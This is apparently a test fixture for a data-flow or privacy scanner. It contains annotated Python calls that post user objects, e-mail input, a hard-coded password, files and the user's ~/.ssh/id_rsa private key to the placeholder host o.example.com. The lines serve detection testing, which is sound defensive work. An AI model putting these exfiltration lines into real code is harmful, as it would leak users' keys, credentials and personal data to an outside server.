import json
from pathlib import Path

import pandas as pd
import requests
from googleapiclient.discovery import build
from langchain_core.prompts import ChatPromptTemplate
from langchain_openai import ChatOpenAI

URL = "https://o.example.com"


def fields(user, order):
    requests.post(URL, json=user.__dict__)  # sends: PERSON -> o.example.com
    requests.post(URL, json=vars(user))  # sends: PERSON -> o.example.com
    requests.post(URL, json=user.to_dict())  # sends: PERSON -> o.example.com
    requests.post(URL, json=order.to_dict())  # sends: -> o.example.com


def asked():
    requests.post(URL, json={"a": input("Your e-mail address: ")})  # sends: EMAIL USER_INPUT -> o.example.com


def written_out():
    requests.post(URL, json={"login": "bob", "password": "pa55word!"})  # sends: SECRET -> o.example.com
    requests.post(URL, json={"login": "bob", "password": "..."})  # sends: -> o.example.com


def paths():
    requests.post(URL, data=Path("notes.txt").read_text())  # sends: FILE -> o.example.com
    requests.post(URL, data=(Path.home() / ".ssh" / "id_rsa").read_bytes())  # sends: FILE SECRET -> o.example.com
    with Path("a").joinpath("b").open() as f:
        requests.post(URL, data=f.read())  # sends: FILE -> o.example.com


def frames(engine):
    df = pd.read_csv("x.csv")  # fetches: -> x.csv
    df.to_csv("out.csv")  # sends: FILE -> out.csv
    df.to_csv("s3://bucket/out.csv")  # sends: FILE -> bucket


def chained(email):
    service = build("sheets", "v4")
    service.spreadsheets().values().append(body={"values": [[email]]}).execute()  # sends: EMAIL -> default
    service.users().messages().list(userId="me").execute()  # fetches: -> default


def piped(email):
    chain = ChatPromptTemplate.from_template("{x}") | ChatOpenAI()
    chain.invoke({"x": email})  # sends: EMAIL -> default
